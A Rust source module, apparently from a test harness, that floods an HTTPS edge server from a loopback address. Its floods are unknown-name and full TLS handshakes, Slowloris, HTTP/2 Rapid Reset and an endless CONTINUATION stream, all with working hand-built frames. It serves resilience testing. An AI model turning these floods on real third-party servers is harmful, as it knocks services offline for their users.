//! Those who mean harm. Each flood is bounded by what one thread can send, and by its number of connections.
//!
//! That thread has the least priority: what visitors wait for is the edge, and not the flood's own work on their core.

use std::{
    fmt,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

use rustls::ClientConfig;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpSocket,
    task::JoinSet,
};
use tokio_util::sync::CancellationToken;

use crate::{certificates::name, load, visitors::connect};

/// Where floods come from.
const SOURCE: [u8; 4] = [127, 0, 0, 2];
/// Connections of a flood at a time.
const IN_FLIGHT: usize = 32;
/// Connections that say next to nothing.
const SLOW: usize = 4_000;
/// Between two bytes of them.
const SLOW_EVERY: Duration = Duration::from_secs(2);
/// Frames sent at once.
const FRAMES: usize = 64;

/// As `nice` counts.
const LEAST_PRIORITY: i32 = 19;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// What is done.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Flood {
    /// Nothing.
    Calm,
    /// Handshakes for names that nobody has.
    UnknownNames,
    /// Full handshakes for names that there are.
    Handshakes,
    /// Connections whose head comes a byte at a time.
    Slowloris,
    /// HTTP/2 requests that are given up at once.
    RapidReset,
    /// HTTP/2 headers without end.
    Continuation,
}

/// A flood under way.
pub(crate) struct Flooding {
    thread: JoinHandle<anyhow::Result<()>>,
    stop: CancellationToken,
    count: Arc<AtomicU64>,
    what: &'static str,
}

impl Flood {
    pub(crate) const ALL: [Self; 6] = [
        Self::Calm,
        Self::UnknownNames,
        Self::Handshakes,
        Self::Slowloris,
        Self::RapidReset,
        Self::Continuation,
    ];

    /// Begins it.
    pub(crate) fn start(self, edge: SocketAddr, names: u32) -> Flooding {
        let (connections, what) = match self {
            Self::Calm => (0, "nothing"),
            Self::UnknownNames | Self::Handshakes => (IN_FLIGHT, "handshakes begun"),
            Self::Slowloris => (SLOW, "bytes"),
            Self::RapidReset => (IN_FLIGHT, "requests given up"),
            Self::Continuation => (IN_FLIGHT, "frames"),
        };
        let (count, stop) = (Arc::<AtomicU64>::default(), CancellationToken::new());
        let (counted, stopped) = (count.clone(), stop.clone());
        let thread = aside(async move {
            let mut tasks = JoinSet::new();
            for task in 0..connections {
                tasks.spawn(self.again_and_again(edge, task as u32, names, counted.clone()));
            }
            stopped.cancelled().await;
            tasks.shutdown().await;
            Ok(())
        });
        Flooding { thread, stop, count, what }
    }

    async fn again_and_again(self, edge: SocketAddr, task: u32, names: u32, count: Arc<AtomicU64>) {
        let tls = match self {
            Self::RapidReset | Self::Continuation => load::client(&[b"h2"]),
            _ => load::client(&[]),
        };
        for number in 0_u32.. {
            let number = number.wrapping_mul(IN_FLIGHT as u32).wrapping_add(task);
            // Whether the edge takes it is the edge's affair.
            let _ = self.once(edge, number, names, &tls, &count).await;
            tokio::task::yield_now().await;
        }
    }

    async fn once(
        self,
        edge: SocketAddr,
        number: u32,
        names: u32,
        tls: &Arc<ClientConfig>,
        count: &AtomicU64,
    ) -> anyhow::Result<()> {
        let counted = |more: usize| count.fetch_add(more as u64, Ordering::Relaxed);
        match self {
            Self::Calm => {}
            Self::UnknownNames => {
                counted(1);
                connect(tls, edge, SOURCE, &format!("unknown-{number}.example.com")).await?;
            }
            Self::Handshakes => {
                counted(1);
                connect(tls, edge, SOURCE, &name(number % names)).await?;
            }
            Self::Slowloris => {
                let socket = TcpSocket::new_v4()?;
                socket.bind((SOURCE, 0).into())?;
                let mut tcp = socket.connect(edge).await?;
                // The beginning of a ClientHello.
                for byte in [0x16, 3, 1, 2, 0, 1, 0, 1] {
                    tcp.write_all(&[byte]).await?;
                    counted(1);
                    tokio::time::sleep(SLOW_EVERY).await;
                }
            }
            Self::RapidReset => {
                let mut stream = connect(tls, edge, SOURCE, &name(number % names)).await?;
                stream.write_all(PREFACE).await?;
                let head = get(&name(number % names));
                for first in (1_u32..).step_by(2 * FRAMES) {
                    let streams = (first..).step_by(2).take(FRAMES);
                    let frames = streams.flat_map(|stream| {
                        [frame(1, 5, stream, &head), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
                    });
                    stream.write_all(&frames.collect::<Vec<_>>()).await?;
                    counted(FRAMES);
                    discard(&mut stream).await?;
                }
            }
            Self::Continuation => {
                let mut stream = connect(tls, edge, SOURCE, &name(number % names)).await?;
                stream.write_all(PREFACE).await?;
                stream.write_all(&frame(1, 0, 1, &get(&name(number % names)))).await?;
                let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
                let frames = frame(9, 0, 1, &field).repeat(FRAMES);
                loop {
                    stream.write_all(&frames).await?;
                    counted(FRAMES);
                    discard(&mut stream).await?;
                }
            }
        }
        Ok(())
    }
}

impl Flooding {
    /// Ends it; how much there was of it.
    pub(crate) fn end(self) -> anyhow::Result<String> {
        self.stop.cancel();
        self.thread.join().map_err(|_| anyhow::anyhow!("the flood has panicked"))??;
        Ok(format!("{} {}", self.count.load(Ordering::Relaxed), self.what))
    }
}

impl fmt::Display for Flood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Calm => "nothing",
            Self::UnknownNames => "handshakes for unknown names, 32 at a time",
            Self::Handshakes => "full handshakes, 32 at a time",
            Self::Slowloris => "4,000 connections, a byte every 2 s",
            Self::RapidReset => "rapid reset on 32 connections",
            Self::Continuation => "endless CONTINUATION on 32 connections",
        })
    }
}

/// Runs `work` on a thread of its own, with the least priority.
pub(crate) fn aside(
    work: impl Future<Output = anyhow::Result<()>> + Send + 'static,
) -> JoinHandle<anyhow::Result<()>> {
    std::thread::spawn(move || {
        // On Linux it is the calling thread's.
        rustix::process::setpriority_process(None, LEAST_PRIORITY)?;
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        runtime.block_on(work)
    })
}

/// Takes what the edge has said, without waiting for more; an error when it has gone.
async fn discard(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> anyhow::Result<()> {
    let mut said = [0; 16 * 1024];
    let read = tokio::time::timeout(Duration::ZERO, stream.read(&mut said)).await;
    match read {
        Ok(Ok(0)) => anyhow::bail!("it has gone"),
        Ok(Err(why)) => Err(why.into()),
        _ => Ok(()),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `GET /` as a header block without compression.
fn get(host: &str) -> Vec<u8> {
    [&[0x82, 0x87, 0x84, 0x01, host.len() as u8][..], host.as_bytes()].concat()
}
